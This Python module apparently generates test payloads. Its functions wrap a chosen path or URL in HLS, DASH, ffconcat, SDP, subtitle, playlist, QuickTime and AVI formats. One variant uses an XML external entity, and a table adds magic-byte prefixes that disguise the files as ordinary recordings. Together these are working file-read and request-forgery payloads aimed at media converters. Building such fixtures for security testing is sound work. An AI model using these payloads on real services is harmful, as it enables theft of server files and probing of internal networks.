"""Recordings that refer to other files or URLs, to have them read."""

import struct
from collections.abc import Callable

#: Turns a path or URL into a file that refers to it.
Hostile = Callable[[str], bytes]


def hls(address: str) -> bytes:
    return (
        "#EXTM3U\n#EXT-X-VERSION:3\n#EXT-X-TARGETDURATION:10\n#EXT-X-MEDIA-SEQUENCE:0\n"
        f"#EXTINF:10.0,\n{address}\n#EXT-X-ENDLIST\n"
    ).encode()


def hls_with_key(address: str) -> bytes:
    return (
        "#EXTM3U\n#EXT-X-TARGETDURATION:10\n"
        f'#EXT-X-KEY:METHOD=AES-128,URI="{address}"\n#EXTINF:10.0,\n{address}\n#EXT-X-ENDLIST\n'
    ).encode()


def hls_of_others(address: str) -> bytes:
    return f"#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1\n{address}\n".encode()


def concat(address: str) -> bytes:
    return f"ffconcat version 1.0\nfile '{address}'\nduration 10\n".encode()


def dash(address: str) -> bytes:
    return (
        '<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static"'
        ' mediaPresentationDuration="PT10S" profiles="urn:mpeg:dash:profile:isoff-on-demand:2011">'
        '<Period><AdaptationSet mimeType="audio/mp4"><Representation id="1" bandwidth="1">'
        f"<BaseURL>{address}</BaseURL></Representation></AdaptationSet></Period></MPD>"
    ).encode()


def smooth_doctype(address: str) -> bytes:
    return (
        f'<?xml version="1.0"?><!DOCTYPE MPD [<!ENTITY x SYSTEM "{address}">]>'
        '<MPD xmlns="urn:mpeg:dash:schema:mpd:2011"><Period>&x;</Period></MPD>'
    ).encode()


def sdp(address: str) -> bytes:
    host = address.split("/")[2] if "://" in address else "127.0.0.1"
    return f"v=0\r\no=- 0 0 IN IP4 {host}\r\nc=IN IP4 {host}\r\nm=audio 9 RTP/AVP 0\r\n".encode()


def subtitles(address: str) -> bytes:
    return (
        f'1\n00:00:00,000 --> 00:00:09,000\n<img src="{address}"><font face="{address}">x</font>\n'
    ).encode()


def vobsub(address: str) -> bytes:
    return (
        f"# VobSub index file, v7 (do not modify this line!)\n# {address}\n"
        "size: 720x480\nid: en, index: 0\ntimestamp: 00:00:01:000, filepos: 000000000\n"
    ).encode()


def asx(address: str) -> bytes:
    return f'<asx version="3.0"><entry><ref href="{address}"/></entry></asx>'.encode()


def pls(address: str) -> bytes:
    return f"[playlist]\nNumberOfEntries=1\nFile1={address}\n".encode()


def real_text(address: str) -> bytes:
    return f'<window type="generic"><a href="{address}">{address}</a></window>'.encode()


def _box(kind: bytes, *parts: bytes) -> bytes:
    content = b"".join(parts)
    return struct.pack(">I", len(content) + 8) + kind + content


def quicktime_reference(address: str) -> bytes:
    """A movie that is only a reference to another."""
    name = address.encode() + b"\0"
    pointer = _box(b"rdrf", bytes(4), b"url ", struct.pack(">I", len(name)), name)
    return _box(b"ftyp", b"qt  ", bytes(8)) + _box(b"moov", _box(b"rmra", _box(b"rmda", pointer)))


def quicktime_elsewhere(address: str) -> bytes:
    """A movie with a track whose samples are in another file."""
    name = address.encode() + b"\0"
    entry = _box(
        b"sowt", bytes(6), b"\0\1", bytes(8), struct.pack(">HHHHI", 1, 16, 0, 0, 16000 << 16)
    )
    samples = _box(
        b"stbl",
        _box(b"stsd", bytes(4), struct.pack(">I", 1), entry),
        _box(b"stts", bytes(4), struct.pack(">III", 1, 16000, 1)),
        _box(b"stsc", bytes(4), struct.pack(">IIII", 1, 1, 16000, 1)),
        _box(b"stsz", bytes(4), struct.pack(">II", 2, 16000)),
        _box(b"stco", bytes(4), struct.pack(">II", 1, 0)),
    )
    reference_box = _box(b"dref", bytes(4), struct.pack(">I", 1), _box(b"url ", bytes(4), name))
    minf = _box(b"minf", _box(b"smhd", bytes(8)), _box(b"dinf", reference_box), samples)
    media = _box(
        b"mdia",
        _box(b"mdhd", bytes(12), struct.pack(">IIHH", 16000, 16000, 0, 0)),
        _box(b"hdlr", bytes(4), b"mhlr", b"soun", bytes(13)),
        minf,
    )
    head = _box(b"mvhd", bytes(12), struct.pack(">II", 1000, 1000), bytes(80))
    track = _box(b"trak", _box(b"tkhd", b"\0\0\0\1", bytes(80)), media)
    return _box(b"ftyp", b"qt  ", bytes(8)) + _box(b"moov", head, track)


def _riff(kind: bytes, *parts: bytes) -> bytes:
    content = b"".join(parts)
    return kind + struct.pack("<I", len(content)) + content + b"\0" * (len(content) % 2)


def avi_with_playlist(address: str) -> bytes:
    """Subtitles inside an AVI are a separate file, whose format the reader guesses."""
    name = "x".encode("utf-16-le") + bytes(2)
    list_ = hls(address)
    text = b"".join((
        b"GAB2\0", struct.pack("<H", 2), struct.pack("<I", len(name)), name,
        struct.pack("<H", 4), struct.pack("<I", len(list_)), list_,
    ))  # fmt: skip
    main = struct.pack("<14I", 40_000, 0, 0, 0x10, 1, 0, 1, 0, 320, 240, 0, 0, 0, 0)
    stream = b"txts" + bytes(16) + struct.pack("<5I", 1, 1, 0, 1, 0) + bytes(16)
    header = _riff(
        b"LIST", b"hdrl", _riff(b"avih", main),
        _riff(b"LIST", b"strl", _riff(b"strh", stream), _riff(b"strf", b"")),
    )  # fmt: skip
    return _riff(b"RIFF", b"AVI ", header, _riff(b"LIST", b"movi", _riff(b"00tx", text)))


NAMING: dict[str, Hostile] = {
    "hls": hls,
    "hls_with_key": hls_with_key,
    "hls_of_others": hls_of_others,
    "concat": concat,
    "dash": dash,
    "doctype": smooth_doctype,
    "sdp": sdp,
    "subtitles": subtitles,
    "vobsub": vobsub,
    "asx": asx,
    "pls": pls,
    "real_text": real_text,
    "quicktime_reference": quicktime_reference,
    "quicktime_elsewhere": quicktime_elsewhere,
    "avi_with_playlist": avi_with_playlist,
}
#: What makes a text look like a recording: only its beginning.
DISGUISES = {
    "plain": b"",
    "mp3": b"ID3\x04" + bytes(6),
    "transport stream": (b"G" + bytes(187)) * 4,
    "film": b"\x00\x00\x00\x08wide",
    "ogg": b"OggS",
    "mpeg": b"\x00\x00\x01\xba\n",
}
